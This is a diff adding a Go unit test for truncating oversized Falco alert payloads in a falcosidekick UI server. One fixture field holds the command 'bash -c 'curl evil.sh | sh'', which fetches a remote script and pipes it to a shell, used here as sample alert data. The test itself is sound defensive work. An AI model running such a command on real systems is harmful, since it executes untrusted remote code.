@@ -0,0 +1,104 @@
+/*
+Copyright AppsCode Inc. and Contributors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package falcosidekick
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+
+	"kubeops.dev/falco-ui-server/pkg/falcosidekick/types"
+)
+
+func TestLimitsApply(t *testing.T) {
+	tests := []struct {
+		name          string
+		limits        Limits
+		payload       types.FalcoPayload
+		wantTruncated []string
+		wantOK        bool
+	}{{
+		name:   "within limits",
+		limits: Limits{MaxFieldSize: 16, MaxEventSize: 64},
+		payload: types.FalcoPayload{
+			Output:       "shell spawned",
+			OutputFields: map[string]any{"proc.name": "bash"},
+		},
+		wantTruncated: []string{},
+		wantOK:        true,
+	}, {
+		name:   "oversized field",
+		limits: Limits{MaxFieldSize: 8},
+		payload: types.FalcoPayload{
+			Output:       "shell",
+			OutputFields: map[string]any{"proc.cmdline": "bash -c 'curl evil.sh | sh'", "proc.name": "bash"},
+		},
+		wantTruncated: []string{"proc.cmdline"},
+		wantOK:        true,
+	}, {
+		name:   "oversized event",
+		limits: Limits{MaxEventSize: 300},
+		payload: types.FalcoPayload{
+			Output: "shell",
+			OutputFields: map[string]any{
+				"proc.cmdline": strings.Repeat("a", 200),
+				"proc.env":     strings.Repeat("b", 150),
+				"proc.name":    "bash",
+			},
+		},
+		wantTruncated: []string{"proc.cmdline"},
+		wantOK:        true,
+	}, {
+		name:   "event too large",
+		limits: Limits{MaxEventSize: 100},
+		payload: types.FalcoPayload{
+			Output:       "shell",
+			OutputFields: map[string]any{"proc.args": []any{strings.Repeat("a", 200)}},
+		},
+		wantOK: false,
+	}}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			truncated, ok := tt.limits.apply(&tt.payload)
+			if ok != tt.wantOK {
+				t.Fatalf("apply() ok = %v, want %v", ok, tt.wantOK)
+			}
+			if !ok {
+				return
+			}
+			if !reflect.DeepEqual(truncated, tt.wantTruncated) {
+				t.Errorf("apply() truncated = %v, want %v", truncated, tt.wantTruncated)
+			}
+			if tt.limits.MaxFieldSize > 0 {
+				for k, v := range tt.payload.OutputFields {
+					if s, _ := v.(string); len(s) > tt.limits.MaxFieldSize {
+						t.Errorf("field %s has %d bytes, want at most %d", k, len(s), tt.limits.MaxFieldSize)
+					}
+				}
+			}
+		})
+	}
+}
+
+func TestTruncateString(t *testing.T) {
+	if got, ok := truncateString("héllo", 2); !ok || got != "h" {
+		t.Errorf("truncateString() = %q, %v, want %q, true", got, ok, "h")
+	}
+	if got, ok := truncateString("hello", 5); ok || got != "hello" {
+		t.Errorf("truncateString() = %q, %v, want %q, false", got, ok, "hello")
+	}
+}